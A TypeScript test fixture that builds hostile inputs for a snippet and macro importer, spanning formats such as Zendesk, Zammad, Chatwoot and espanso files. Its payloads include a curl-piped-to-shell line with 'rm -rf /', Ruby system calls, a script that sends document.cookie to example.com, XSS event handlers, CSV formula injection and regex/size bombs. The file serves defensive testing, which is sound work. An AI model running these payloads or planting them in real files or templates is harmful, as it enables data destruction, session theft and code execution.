import { strToU8 } from 'fflate';
import type { ImportCase } from './corpus';

/** Bodies with logic, scripts, markup and signs of every tool at once. */
const BODIES: Readonly<Record<string, string>> = {
  'liquid logic': '{% for x in (1..99999999) %}{{ x }}{% endfor %}',
  'an unclosed output': 'Hi {{ name',
  'an unclosed tag': 'Hi {% if name',
  'nested braces': '{{ {{ a }} }} {{{ b }}} {% {{ c }} %}',
  'braces that meet a value': '{{{ contact.name }}}',
  'a filter chain': '{{ ticket.title | split: "" | reverse | join: "" }}',
  'dynamic content': '{{dc.welcome}} {{ticket.ticket_field_360001}}',
  'handlebars blocks': '{{#each items}}{{this}}{{/each}}{{> partial}}{{{raw}}}',
  'a reach for the prototype': '{{ constructor.constructor }} {{__proto__}} {{ toString }}',
  'ruby in hashes': '#{system("rm -rf /")} #{ticket.customer.firstname} #{`id`}',
  'a fetch': '{urlload: https://example.com/x; done=(r) -> r} {run: alert(1)} {dbselect: SELECT *}',
  'blaze logic': '{if: x > 3}yes{else}no{endif}{repeat: 999999999}a{endrepeat}{=1+1}{import: /other}',
  'a thousand open braces': '{a'.repeat(1_000),
  'macros without end': '%filltext:name= %fillpopup:a %clipboard %| %% %snippet:x% %key:enter%',
  'a percent sign after a number': '100% discount, 5%off, 20 % Rabatt',
  'a shell': '$(curl example.com | sh) `id` && rm -rf /',
  'a script element': '<script>fetch("https://example.com?"+document.cookie)</script>Hello',
  'event handlers':
    '<img src=x onerror=alert(1)><a href="javascript:alert(1)">click</a><svg/onload=alert(1)>',
  'ten thousand open tags': `${'<div>'.repeat(10_000)}x`,
  'a broken comment': '<!-- <p>hidden</p> Hello',
  entities: '&lt;b&gt; &amp;amp; &#x202e; &nbsp;&#0; &bogus; caf&eacute;',
  'a table': '<table><tr><td>a</td><td>b</td></tr></table><pre>  two\n  lines</pre>',
  'a formula': '=HYPERLINK("https://example.com","x")',
  'a formula after a tab': '\t=cmd|"/C calc"!A0',
  'front matter': '---\nid: other\n---\n<!-- reply: de -->\nx',
  'embedded line ends': 'one\r\ntwo\rthree\n\n\nfour',
  'quotation marks': 'She said "hi", \'bye\' and ""',
  'invisible signs': 'a\u0000b\u0007c\u200bd\ufeffe\u202ef',
  'half a pair': 'x\ud83dy',
  'right to left': 'مرحبًا {{contact.name}}، كيف حالك؟',
  'emoji of many parts': '👩‍👩‍👧‍👦 🇩🇪 {{contact.name}}👍🏽',
  nothing: '',
  'only white space': ' \n\t ',
  'a hundred thousand signs': 'a'.repeat(100_000),
  'a million signs': '<p>lorem ipsum </p>'.repeat(60_000),
  'a slow pattern': `${'a'.repeat(30_000)}!${' '.repeat(30_000)}x`,
};

type Writer = (body: string) => readonly [name: string, text: string];

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

const WRITERS: readonly Writer[] = [
  (content) => ['chatwoot.json', JSON.stringify([{ id: 1, short_code: 'hello', content }])],
  (value) => [
    'zendesk.json',
    JSON.stringify({ macros: [{ id: 1, title: 'A::B', actions: [{ field: 'comment_value_html', value }] }] }),
  ],
  (content) => ['zammad.json', JSON.stringify([{ id: 1, name: 'Hello', keywords: 'a', content }])],
  (content) => ['zammad.csv', `id,name,keywords,content\n1,Hello,a,${cell(content)}\n`],
  (body) => ['briskine.csv', `id,title,shortcut,body\n1,Hello,hello,${cell(body)}\n`],
  (text) => [
    'blaze.json',
    JSON.stringify({ folders: [{ name: 'F', snippets: [{ shortcut: '/h', text }] }] }),
  ],
  (content) => ['group.csv', `hello,${cell(content)},Hello\n`],
  (replace) => ['base.yml', `matches:\n  - trigger: ":h"\n    replace: ${JSON.stringify(replace)}\n`],
  (body) => ['own.csv', `title,body\nHello,${cell(body)}\n`],
  (body) => [
    'own.json',
    JSON.stringify([{ code: 'h', texts: [{ lang: 'en', title: 'H', body, variants: [], asOf: 1 }] }]),
  ],
  (body) => ['own.md', `---\ntitle: Hello\n---\n${body}\n`],
];

export function hostileWords(): ImportCase[] {
  return WRITERS.flatMap((write) =>
    Object.entries(BODIES).map(([title, body]) => {
      const [name, text] = write(body);
      return { title: `${name}: ${title}`, file: { name, bytes: strToU8(text) } };
    }),
  );
}
